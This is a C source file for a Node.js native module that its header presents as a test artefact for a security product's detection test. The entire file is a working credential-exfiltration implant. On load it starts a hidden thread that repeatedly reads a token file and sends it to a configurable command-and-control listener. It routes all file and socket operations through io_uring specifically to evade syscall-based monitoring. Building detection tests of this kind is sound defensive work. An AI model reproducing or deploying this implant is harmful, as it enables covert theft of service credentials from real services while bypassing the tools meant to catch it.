// SPDX-License-Identifier: Apache-2.0
//
// THE REFERENCE ATTACK'S IMPLANT — a test artefact, not a tool. It exists so that the cockpit's
// end-to-end test can prove, on every run, that it catches this kind of attack.
//
// A Node.js native module (N-API, written in C) that a JavaScript web service loads after a
// "malicious update". On load it starts one thread that, using ONLY io_uring (no open/read/
// connect/send syscalls of its own — syscall-based tools see io_uring_setup and io_uring_enter
// only), every PERIOD milliseconds:
//   1. opens a service-account-style token file (IORING_OP_OPENAT) and reads it (IORING_OP_READ),
//      then closes it (IORING_OP_CLOSE);
//   2. sends it to a command-and-control listener (IORING_OP_CONNECT once, IORING_OP_SEND per
//      beacon) in a binary framing: 4-byte big-endian length, 4-byte magic "EXF1", 8-byte
//      big-endian sequence number, the token bytes.
// Configuration comes from the environment of the process that loads it:
//   SOC_IMPLANT_TOKEN   path of the token file
//   SOC_IMPLANT_C2      IPv4 address:port of the listener
//   SOC_IMPLANT_PERIOD  milliseconds between beacons (default 3000)
//   SOC_IMPLANT_SQPOLL  "1": a kernel thread submits for the ring (IORING_SETUP_SQPOLL)
// It exports one function, status(), returning the number of beacons sent.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <liburing.h>
#include <netinet/in.h>
#include <node_api.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_TOKEN 4096

struct config {
	char token_path[512];
	struct sockaddr_in c2;
	unsigned period_ms;
	int sqpoll;
};

static atomic_ulong beacons_sent;
static atomic_int started;

// Submits one prepared SQE and waits for its completion; returns the result (negative errno on
// failure). With SQPOLL, io_uring_submit only wakes the kernel thread when it sleeps.
static int run_one(struct io_uring *ring) {
	struct io_uring_cqe *cqe;
	int ret = io_uring_submit(ring);
	if (ret < 0) return ret;
	ret = io_uring_wait_cqe(ring, &cqe);
	if (ret < 0) return ret;
	ret = cqe->res;
	io_uring_cqe_seen(ring, cqe);
	return ret;
}

static int uring_read_token(struct io_uring *ring, const char *path, char *buf, size_t cap) {
	struct io_uring_sqe *sqe = io_uring_get_sqe(ring);
	io_uring_prep_openat(sqe, AT_FDCWD, path, O_RDONLY | O_CLOEXEC, 0);
	int fd = run_one(ring);
	if (fd < 0) return fd;
	sqe = io_uring_get_sqe(ring);
	io_uring_prep_read(sqe, fd, buf, cap, 0);
	int n = run_one(ring);
	sqe = io_uring_get_sqe(ring);
	io_uring_prep_close(sqe, fd);
	run_one(ring);
	return n;
}

static int uring_connect(struct io_uring *ring, const struct sockaddr_in *addr) {
	struct io_uring_sqe *sqe = io_uring_get_sqe(ring);
	// The socket itself: IORING_OP_SOCKET (5.19+), so not even socket() is a syscall of ours.
	io_uring_prep_socket(sqe, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0, 0);
	int fd = run_one(ring);
	if (fd < 0) return fd;
	sqe = io_uring_get_sqe(ring);
	io_uring_prep_connect(sqe, fd, (const struct sockaddr *)addr, sizeof(*addr));
	int ret = run_one(ring);
	if (ret < 0) {
		sqe = io_uring_get_sqe(ring);
		io_uring_prep_close(sqe, fd);
		run_one(ring);
		return ret;
	}
	return fd;
}

static void put_be32(unsigned char *p, uint32_t v) {
	p[0] = v >> 24; p[1] = v >> 16; p[2] = v >> 8; p[3] = v;
}

static void *beacon_thread(void *arg) {
	struct config *cfg = arg;
	struct io_uring ring;
	struct io_uring_params params = {0};
	if (cfg->sqpoll) {
		params.flags = IORING_SETUP_SQPOLL;
		params.sq_thread_idle = 2000;
	}
	if (io_uring_queue_init_params(8, &ring, &params) < 0) return NULL;
	static char token[MAX_TOKEN];
	static unsigned char frame[16 + MAX_TOKEN];
	int sock = -1;
	uint64_t seq = 0;
	struct timespec period = {cfg->period_ms / 1000, (cfg->period_ms % 1000) * 1000000L};
	for (;;) {
		int n = uring_read_token(&ring, cfg->token_path, token, sizeof(token));
		if (n > 0) {
			if (sock < 0) sock = uring_connect(&ring, &cfg->c2);
			if (sock >= 0) {
				uint32_t body = 12 + (uint32_t)n;
				put_be32(frame, body);
				memcpy(frame + 4, "EXF1", 4);
				put_be32(frame + 8, (uint32_t)(seq >> 32));
				put_be32(frame + 12, (uint32_t)seq);
				memcpy(frame + 16, token, (size_t)n);
				struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
				io_uring_prep_send(sqe, sock, frame, 4 + body, MSG_NOSIGNAL);
				if (run_one(&ring) < 0) {
					sqe = io_uring_get_sqe(&ring);
					io_uring_prep_close(sqe, sock);
					run_one(&ring);
					sock = -1; // reconnect at the next beacon
				} else {
					seq++;
					atomic_fetch_add(&beacons_sent, 1);
				}
			}
		}
		// The wait is not a syscall the sensor would attribute to file or network activity.
		struct __kernel_timespec ts = {period.tv_sec, period.tv_nsec};
		struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
		io_uring_prep_timeout(sqe, &ts, 0, 0);
		run_one(&ring);
	}
	return NULL;
}

static int parse_config(struct config *cfg) {
	const char *token = getenv("SOC_IMPLANT_TOKEN");
	const char *c2 = getenv("SOC_IMPLANT_C2");
	const char *period = getenv("SOC_IMPLANT_PERIOD");
	const char *sqpoll = getenv("SOC_IMPLANT_SQPOLL");
	if (!token || !c2 || strlen(token) >= sizeof(cfg->token_path)) return -1;
	strcpy(cfg->token_path, token);
	char host[64];
	const char *colon = strrchr(c2, ':');
	if (!colon || (size_t)(colon - c2) >= sizeof(host)) return -1;
	memcpy(host, c2, (size_t)(colon - c2));
	host[colon - c2] = 0;
	cfg->c2.sin_family = AF_INET;
	cfg->c2.sin_port = htons((uint16_t)atoi(colon + 1));
	if (inet_pton(AF_INET, host, &cfg->c2.sin_addr) != 1) return -1;
	cfg->period_ms = period ? (unsigned)atoi(period) : 3000;
	if (cfg->period_ms == 0) cfg->period_ms = 3000;
	cfg->sqpoll = sqpoll && strcmp(sqpoll, "1") == 0;
	return 0;
}

static napi_value status(napi_env env, napi_callback_info info) {
	(void)info;
	napi_value result;
	napi_create_double(env, (double)atomic_load(&beacons_sent), &result);
	return result;
}

NAPI_MODULE_INIT(/* napi_env env, napi_value exports */) {
	if (atomic_exchange(&started, 1) == 0) {
		static struct config cfg;
		if (parse_config(&cfg) == 0) {
			pthread_t thread;
			pthread_attr_t attr;
			pthread_attr_init(&attr);
			pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
			pthread_create(&thread, &attr, beacon_thread, &cfg);
			pthread_attr_destroy(&attr);
		}
	}
	napi_value fn;
	napi_create_function(env, "status", NAPI_AUTO_LENGTH, status, NULL, &fn);
	napi_set_named_property(env, exports, "status", fn);
	return exports;
}
